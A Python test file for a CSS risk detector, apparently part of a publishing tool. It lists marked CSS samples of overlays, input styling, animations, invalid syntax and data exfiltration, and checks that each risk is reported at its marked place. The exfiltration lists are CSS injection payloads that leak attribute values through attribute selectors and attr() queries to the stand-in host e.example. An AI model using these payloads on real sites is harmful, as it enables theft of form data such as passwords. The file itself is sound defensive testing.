"""What a reviewer should look at in CSS, and where it is (contract L4, docs/works.md)."""

from typing import Final

import pytest

from logoadmin.domain.kernel.kinds import CssForm
from logoadmin.domain.publication.css import judge
from logoadmin.domain.publication.css.judging import MAX_RISKS
from logoadmin.domain.publication.css.verdict import CssRisk, RiskName

pytestmark = pytest.mark.rule("contract L4")

WINDOW: Final = "width:100vw;height:100vh"

# The mark § is where a risk is; it is not part of the CSS.
OVERLAYS = [
    *("a{§position:fixed;inset:0}", "a{inset:0;color:red;§position:fixed!important}"),
    *(f"a{{§position:absolute;{WINDOW}}}", "a{§position:sticky;min-block-size:95dvh;min-inline-size:stretch}"),
    "a{§position:-webkit-sticky;top:0;left:-1px;bottom:0%;right:calc(1px - 1px)}",
    "a{§position:absolute;inset-block:0;inset-inline-start:0;inset-inline-end:var(--x)}",
    *("a{§position:fixed}@media print{b,a{inset:0}}", "a{§position:fixed;@media all{&{inset:0}}}"),
    *("a{§position:fixed;inset:1px}", "a{§position:fixed;inset:10% 20px}", "a{§position:absolute;inset:0 auto}"),
    *("a{§position:sticky;top:9px;bottom:5em}", "a{§position:absolute;left:-1vw;right:30%}"),
    *("a{§position:fixed;inset:auto 1px auto 1px}", "a{§PO\\53ition:FIXED;WIDTH:100%;HEIGHT:2000px}"),
    *("a{§position:fixed;inset:var(--a)}", "a{§position:fixed;top:anchor(top);bottom:anchor(bottom)}"),
    *("a{§position:fixed;width:50%;height:50%}", "a{§position:fixed;width:50vw;height:55svh}"),
    *("a{§position:fixed;min-width:640px;min-height:360px}", "a{§position:fixed;width:40em;height:calc(1px*900)}"),
    *(".a  > b{§position:fixed;top:0}.A > b{bottom:0}", "a{@media all{§position:fixed}inset:0}"),
    "a{§position:var(--x);inset:0}",
]
NO_OVERLAYS = [
    *("a{position:absolute;top:0;left:0}", "a{position:fixed;inset:auto auto 0 0;width:49%;height:100%}"),
    *("a{position:absolute;inset:0 auto auto;height:9px}", "a{position:absolute}b{inset:0}"),
    *("a{position:relative;inset:0;z-index:5}", "a{position:fixed;z-index:10;width:100%}", "a{inset:0}"),
    "a{position:fixed}a::before{inset:0}",
]
INPUTS = [
    *("§input{color:red}", "b,§INPUT.x:focus{}", "form>§textarea{}", "p:is(§select,b){}", "p{&:has(§input){}}"),
    *("§[type=password]{}", "x:§placeholder-shown{}", "x::§-webkit-input-placeholder{}", "x:§-webkit-autofill{}"),
    *("@scope(§input){b{}}", "a{§caret-color:red}", "@media all{§inp\\75t{}}"),
]
NO_INPUTS = ["a.input{}", "#input{}", "a{content:'input'}", "[data-x=input]{}", "input-box{}", "@media (update:x){a{}}"]
EXFILTRATION = [
    *("x§[value^='a']{background:url(//e.example/a)}", "§[href*='a']{p{content:image-set('https://e.example' 1x)}}"),
    *("p:has(§[x$=a]) q{b:url(//e.example)}", "§[x=a]{--y:1}b{c:url(//e.example)}"),
    "§[x|=a]{font-family:f}@font-face{font-family:f;src:url(//e.example)}",
    "§[x~=a]{c:var(--y)}:root{--y:url(//e.example)}",
    "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
    *("@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}", "a{§b:src(attr(value))}"),
    "@scope(§[a=b]){c{d:url(//e.example)}}",
]
# An attribute's value by way of attr(), with a query and a request.
ATTRIBUTES: Final = [
    "a{§--x:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
    "a{§--x:attr(value type(<number>))}@container style(--x > 5){b{c:url(//e.example)}}",
    "a{§--x:attr(value);@container style(--x:1){b{c:url(//e.example)}}}",
    "a{§--x:\\61ttr(value)}@CONTAINER style(--x:1){b{c:url(//e.example)}}",
    "a{§width:attr(value px)}@container(width>5px){b{c:url(//e.example)}}",
    "a{§width:calc(1px*attr(value))}@container x (width>5px){b{c:url(//e.example)}}",
    "a{§--x:attr(value)}@container style(--x:1){b{font-family:f}}@font-face{font-family:f;src:url(//e.example)}",
    "a{§--x:attr(value)}@container style(--x:1){b{--y:1}}@import '//e.example';",
    "a{§--x:attr(value);c:if(style(--x:1):url(//e.example);else:none)}",
    "a{§--x:attr(value)}b{c:if(style(--x:1):var(--u))}q{--u:url(//e.example)}",
    "a{§c:if(style(--x:attr(value)):url(//e.example))}",
    "§@container style(--x:attr(value)){b{c:url(//e.example)}}",
    "@function --f(){§result:attr(value)}@container style(--x:1){b{c:url(//e.example)}}",
    "a{§animation-name:attr(value type(<custom-ident>))}b{c:url(//e.example)}",
    "a{§font-family:attr(value)}@font-face{font-family:f;src:url(//e.example)}",
]
NO_EXFILTRATION = [
    *("a{content:attr(title)}b{c:url(//e.example)}", "a{--x:attr(value)}@container style(--x:1){b{c:url(i.png)}}"),
    *("@container(width>5px){b{c:url(//e.example)}}", "[x^=a]{color:red}b{c:url(//e.example)}"),
    *("[x]{b:url(//e.example)}", "[x^=a]{b:url(i.png)}", "[x^=a]{--y:1}b{c:var(--y)}"),
    *("@font-face{font-family:f;src:local(x);unicode-range:U+61}", "[x^=a]{b:var(--y)}b{c:url(//e.example)}c{--y:1}"),
]
ANIMATIONS = [
    *("§@keyframes x{}", "§@-webkit-keyframes x{from{a:b}}", "a{§animation:x 1s}", "a{§-webkit-animation-name:x}"),
    "@media all{a{b:c;§ANIMATION:none,x}}",
]
NO_ANIMATIONS = ["a{animation:none!important;animation-name:inherit}", "a{transition:all 1s}", "a{animation-delay:1s}"]
INVALID = [
    *(
        "a§{",
        "a{b:'c'}§}",
        "a§{b:§(c",
        "a{}§/* b",
        "a§{b:§'c",
        "a§{b:§url(c",
        "a{b:§'c\n}",
        "a{}§}",
        "a§{b:§url(c d\\)}",
    ),
]
VALID = [
    *("", "a{}", "a{b:c;}", "<!-- a{} -->", "@import 'x'", "/* } */ a { b: '}' }", "a{--b:{c};--d:;e:f}"),
    *("a{&:hover{b:c}@media all{d:e}f g{}}", "@media all{a{b:url(c)}}", "@layer a, b;", "a{b:url()}", "a{b:foo()}"),
    *(
        "\ufeffa{}",
        "a{//b:c;\nd:e}",
        "a{b}",
        "a{*b:c}",
        "a",
        "{b:c}",
        "a{}\r\n\f\u00e9)b{}",
        "a{b:\\\nc}",
        "a{b:url(c d)}",
    ),
]

SHEETS: Final[dict[RiskName, list[str]]] = {
    "overlay": OVERLAYS + NO_OVERLAYS,
    "input_styling": INPUTS + NO_INPUTS,
    "attribute_exfiltration": EXFILTRATION + ATTRIBUTES + NO_EXFILTRATION,
    "animation": ANIMATIONS + NO_ANIMATIONS,
    "invalid": INVALID + VALID,
}
DECLARATIONS: Final[dict[RiskName, list[str]]] = {
    "overlay": ["§position:fixed;inset:0", "position:absolute"],
    "input_styling": ["-x:y;§-webkit-text-security:disc"],
    "animation": ["§animation:x 1s", "animation:none"],
    "invalid": [
        *("a: b; §@media all { c: d }", "a: b; §c { d: e }", "a: b§}", "--a: §{}", "§@import 'x'", "a: b; c: d", ""),
        "a: b; ;",
    ],
}


def places(css: str, risk: RiskName, form: CssForm) -> list[tuple[int, int]]:
    return [(each.line, each.column) for each in judge(css, form).risks if each.risk == risk]


def marked(css: str) -> tuple[str, list[tuple[int, int]]]:
    """Return CSS without its marks, and the lines and columns where they were."""
    found, parts = [], css.split("§")
    for index in range(1, len(parts)):
        before = "".join(parts[:index]).replace("\r\n", "\n").replace("\f", "\n")
        found.append((before.count("\n") + 1, len(before) - before.rfind("\n")))
    return "".join(parts), found


@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in SHEETS.items() for text in texts])
def test_the_risks_of_a_sheet_are_found_at_their_places(risk: RiskName, text: str) -> None:
    css, expected = marked(text)
    assert places(css, risk, "sheet") == expected


@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in DECLARATIONS.items() for text in texts])
def test_the_risks_of_declarations_are_found_at_their_places(risk: RiskName, text: str) -> None:
    css, expected = marked(text)
    assert places(css, risk, "declarations") == expected


def test_only_the_first_risks_of_a_kind_are_listed() -> None:
    risks = judge("input{}" * 100 + "@keyframes x{}", "sheet").risks
    assert [each.risk for each in risks] == ["input_styling"] * MAX_RISKS + ["animation"]
    assert risks[1] == CssRisk("input_styling", 1, 8)
